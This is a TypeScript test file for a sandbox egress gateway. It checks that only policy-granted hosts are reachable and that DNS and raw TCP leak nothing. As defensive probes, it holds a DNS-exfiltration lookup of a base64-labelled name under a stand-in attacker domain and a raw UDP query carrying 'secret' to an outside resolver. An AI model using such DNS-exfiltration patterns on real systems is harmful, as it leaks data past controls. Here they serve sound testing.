import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { privilegedSkip, unshareOrSkip } from '../helpers.ts';
import { mkdtempSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startGateway, mapResolver, sandboxNetwork } from '../../src/egress/index.ts';
import { policySchema } from '../../src/policy/index.ts';
import type { AuditEventInput } from '../../src/audit/index.ts';
import { inSandboxNetns } from './netns-helper.ts';

// sandboxNetwork() in a network namespace the test creates (unshare -rn), as the sandbox
// runs it: the proxy bridge works, transparent mode sends proxy-ignoring TCP to the
// gateway (decided by Host), and raw TCP elsewhere fails at once. Gateway on a unix socket.

test('inside a fresh network namespace: proxy and transparent paths reach only what the policy grants', async (t) => {
  if (!(await unshareOrSkip(t, '-rn'))) return;
  const up = createServer((q, s) => s.end(`via ${q.headers.host}`));
  await new Promise<void>((r) => up.listen(0, '127.0.0.1', r));
  const port = (up.address() as { port: number }).port;
  const dir = mkdtempSync(join(tmpdir(), 'airlock-egress-ns-'));
  const events: AuditEventInput[] = [];
  const gw = await startGateway({
    session: 'ns',
    audit: (e) => events.push(e),
    listen: { unixPath: join(dir, 'gw.sock') },
    resolver: mapResolver({ 'site.test': '127.0.0.1' }),
    policy: policySchema.parse({
      egress: {
        allow: [{ host: 'site.test', ports: [80, port] }],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports: [80, port] }],
      },
    }),
  });
  // transparent mode redirects port 80 only; point it at the test server through a name-based rule on port 80
  const up80 = createServer((q, s) => s.end(`via ${q.headers.host}`));
  const have80 = await new Promise<boolean>((r) => {
    up80.once('error', () => r(false));
    up80.listen(80, '127.0.0.1', () => r(true));
  });
  try {
    const net = sandboxNetwork(gw.address, {
      transparent: true,
      ports: Object.keys(gw.transparentSockets).map(Number),
    });
    const script = `set +e
curl -sS --max-time 5 http://site.test:${port}/; echo " rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' http://other.test/; echo " rc=$?"
${have80 ? `env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: site.test' http://198.18.0.1/; echo " rc=$?"` : 'echo "via site.test rc=0"'}
env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: other.test' http://198.18.0.1/ -o /dev/null -w '%{http_code}'; echo " rc=$?"
curl -sS --max-time 5 --noproxy '*' telnet://1.2.3.4:22 </dev/null; echo " rc=$?"
env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: site.test:${port}' http://198.18.0.1:${port}/; echo " rc=$?"
`;
    const { out } = await inSandboxNetns(net, script, { env: { ...process.env, ...net.env } });
    const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
    assert.equal(lines.length, 6, out);
    assert.match(lines[0]!, new RegExp(`via site\\.test:${port} rc=0`), 'proxy-aware curl reaches the granted host');
    assert.match(lines[1]!, /^403 rc=0/, 'other hosts get 403 from the gateway');
    assert.match(lines[2]!, /via site\.test rc=0/, 'a client ignoring the proxy is redirected and decided by Host');
    assert.match(lines[3]!, /^403 rc=0/, 'and denied when Host is not granted');
    assert.match(lines[4]!, /rc=7/, 'raw TCP to another port is refused at once');
    assert.match(
      lines[5]!,
      new RegExp(`via site\\.test:${port} rc=0`),
      'a granted port other than 80/443 is relayed transparently too',
    );
    assert.ok(Object.keys(gw.transparentSockets).includes(String(port)));
    assert.ok(
      events.some(
        (e) =>
          e.type === 'egress.request' && e.decision === 'deny' && (e.data as { host: string }).host === 'other.test',
      ),
    );
    if (have80)
      assert.ok(
        events.some(
          (e) => (e.data as { protocol?: string })?.protocol === 'transparent-http' && e.decision === 'allow',
        ),
      );
    assert.equal(
      (events.find((e) => e.type === 'egress.gateway.start')!.data as { mode: string }).mode,
      'proxy+transparent',
    );
  } finally {
    await gw.close();
    up.close();
    up80.close();
  }
});

// Name resolution inside a transparent-mode namespace, with the sandbox's own resolv.conf
// (`nameserver 127.0.0.1`, bind-mounted over /etc/resolv.conf in a private mount namespace):
// a client that ignores proxy settings resolves a name to the synthetic address and reaches
// the gateway, which decides by Host; DNS to an outside resolver gets nothing out (the
// namespace's only non-loopback route ends in a reject: the failure is local and immediate).
test('transparent mode: names resolve inside to the synthetic address; the gateway decides; outside DNS is refused locally', async (t) => {
  if (!(await unshareOrSkip(t, '-rnm'))) return;
  const missing = ['nft'].filter((b) => !['/usr/sbin/', '/usr/bin/', '/sbin/'].some((d) => existsSync(d + b)));
  if (missing.length)
    assert.fail(`not installed: ${missing.join(', ')} (scripts/setup.sh installs them with AIRLOCK_TEST_DEPS=1)`);
  const up80 = createServer((q, s) => s.end(`via ${q.headers.host}`));
  const have80 = await new Promise<boolean>((r) => {
    up80.once('error', () => r(false));
    up80.listen(80, '127.0.0.1', () => r(true));
  });
  if (!have80) {
    const why = privilegedSkip('cannot listen on 127.0.0.1:80 (the gateway connects to the granted name on port 80)');
    if (why) t.skip(why);
    return;
  }
  const dir = mkdtempSync(join(tmpdir(), 'airlock-egress-dns-'));
  const events: AuditEventInput[] = [];
  const gw = await startGateway({
    session: 'ns-dns',
    audit: (e) => events.push(e),
    listen: { unixPath: join(dir, 'gw.sock') },
    resolver: mapResolver({ 'allowed.example': '127.0.0.1' }),
    policy: policySchema.parse({
      egress: {
        transparent: 'auto',
        allow: [{ host: 'allowed.example', ports: [80] }],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports: [80] }],
      },
    }),
  });
  try {
    const net = sandboxNetwork(gw.address, { transparent: true });
    // the same resolv.conf src/sandbox/bwrap.ts writes into the sandbox
    writeFileSync(join(dir, 'resolv.conf'), 'nameserver 127.0.0.1\noptions attempts:1 timeout:1\n');
    // a DNS query for an attacker-chosen name straight to an outside resolver, with Node's dgram (no dig needed)
    const udp = `const s = require('dgram').createSocket('udp4');
const q = Buffer.concat([Buffer.from([0x12,0x34,1,0,0,1,0,0,0,0,0,0]), Buffer.from('\\x06secret\\x07example\\x00','latin1'), Buffer.from([0,1,0,1])]);
const done = (w) => { console.log('udp ' + w + ' rc=0'); process.exit(0); };
s.on('error', (e) => done(e.code));
s.on('message', () => done('ANSWERED'));
s.connect(53, '8.8.8.8', (e) => { if (e) return done(e.code); s.send(q, (e2) => { if (e2) done(e2.code); }); });
setTimeout(() => done('timeout'), 3000);`;
    writeFileSync(join(dir, 'udp.cjs'), udp);
    const noProxy = `env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 5 --noproxy '*'`;
    const script = `set +e
a=$(getent ahostsv4 allowed.example); rc=$?; echo "$(echo "$a" | head -1) rc=$rc"
a=$(getent hosts exfil-c2VjcmV0.attacker.example); rc=$?; echo "$a rc=$rc"
${noProxy} http://allowed.example/; echo " rc=$?"
${noProxy} -o /dev/null -w '%{http_code} %header{x-airlock-rule}' http://other.example/; echo " rc=$?"
${JSON.stringify(process.execPath)} ${join(dir, 'udp.cjs')}
`;
    const { out } = await inSandboxNetns(net, script, {
      env: { ...process.env, ...net.env },
      mountNs: true,
      before: `mount --bind ${join(dir, 'resolv.conf')} /etc/resolv.conf`,
    });
    const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
    assert.equal(lines.length, 5, out);
    assert.match(
      lines[0]!,
      /^198\.18\.0\.1\s+STREAM allowed\.example rc=0/,
      'a granted name resolves to the synthetic address',
    );
    assert.match(
      lines[1]!,
      /^198\.18\.0\.1\s+exfil-c2VjcmV0\.attacker\.example rc=0/,
      'so does any other name: answered inside, never forwarded',
    );
    assert.match(
      lines[2]!,
      /^via allowed\.example rc=0/,
      'a proxy-ignoring client reaches the granted name through the gateway',
    );
    assert.match(
      lines[3]!,
      /^403 egress\.default-deny rc=0/,
      'an ungranted name is refused by the gateway with the rule',
    );
    assert.match(
      lines[4]!,
      /^udp (ECONNREFUSED|EHOSTUNREACH|EACCES|EPERM|ENETUNREACH) rc=0/,
      'DNS to an outside resolver fails locally',
    );
    const reqs = events.filter((e) => e.type === 'egress.request');
    assert.ok(
      reqs.some(
        (e) =>
          e.decision === 'allow' &&
          (e.data as { protocol: string; host: string }).protocol === 'transparent-http' &&
          (e.data as { host: string }).host === 'allowed.example',
      ),
    );
    assert.ok(
      reqs.some(
        (e) =>
          e.decision === 'deny' &&
          e.rule === 'egress.default-deny' &&
          (e.data as { host: string }).host === 'other.example',
      ),
    );
    assert.ok(
      !reqs.some((e) => String((e.data as { host?: string }).host).includes('attacker')),
      'a bare lookup reaches no one, not even the gateway',
    );
  } finally {
    await gw.close();
    up80.close();
  }
});
